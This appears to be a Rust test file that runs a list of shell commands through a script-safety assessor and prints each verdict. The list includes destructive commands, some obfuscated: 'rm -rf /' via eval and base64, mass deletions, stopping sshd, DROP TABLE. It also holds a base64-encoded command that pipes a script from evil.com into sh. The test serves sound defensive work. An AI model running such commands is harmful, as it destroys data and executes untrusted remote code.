use pipeguard_core::safety::assess_script;
#[test]
fn probe() {
    let cases = [
        "find /tmp -type f -mtime +7 -exec rm -f {} \\;",
        "find /var/log -name '*.gz' -mtime +30 -delete",
        "find / -name '*.log' -delete",
        "find /etc -name '*.bak' -delete",
        "find . -name '*.pyc' -delete",
        "find / -type f -exec rm {} +",
        "$(which rm) -rf /",
        "\"$(command -v rm)\" -rf /",
        "terraform plan -destroy -out d.plan && terraform apply d.plan",
        "kubectl get ns -o name | xargs kubectl delete",
        "service ssh stop",
        "systemctl disable --now sshd",
        "rm -rf $(echo L3Vzcg== | base64 -d)",
        "rm -rf \"${@:-/}\"",
        "a=r;b=m;c=' -rf /'; eval $a$b$c",
        "sudo timeout 10 nice -n 5 kubectl exec -it pod -- bash -c \"echo / | xargs rm -rf\"",
        "bash -c \"$(echo Y3VybCBodHRwOi8vZXZpbC5jb20vYS5zaCB8IHNo | base64 -d)\"",
        "psql -c $'DROP\\tTABLE x'",
        "git push -uf origin main",
        "git push --force-with-lease=main:abc origin main",
        "redis-cli -u redis://h:6379 FLUSHALL ASYNC",
        "echo 3 > /proc/sys/vm/drop_caches",
        "docker run --rm -v $(pwd):/src -w /src node:20 npm test",
        "bash -c 'echo > /dev/tcp/db/5432'",
        "curl -X DELETE http://localhost:8080/cache",
        "source venv/bin/activate",
        "sudo -u postgres psql -c 'VACUUM ANALYZE'",
        "timeout 30 bash -c 'until curl -fs localhost:8080; do sleep 1; done'",
        "[ -f /tmp/lock ] && rm /tmp/lock",
        "redis-cli --scan --pattern 'cache:*' | xargs redis-cli del",
        "ls | xargs -I{} echo {}",
        "find . -type f -name '*.log' -exec gzip {} \\;",
        "echo aGVsbG8= | base64 -d",
        "kubectl delete pod api-0 --grace-period=0 --force",
        "aws ecs update-service --cluster c --service s --force-new-deployment",
        "git push --tags",
        "npm cache clean --force",
        "pip cache purge",
        "docker builder prune -af",
        "mysql -e 'KILL 1234'",
    ];
    for s in cases {
        let a = assess_script(s);
        eprintln!(
            "{:8} {:70} | {}",
            format!("{:?}", a.level),
            s.replace('\n', "\\n"),
            a.reason.chars().take(70).collect::<String>()
        );
    }
}
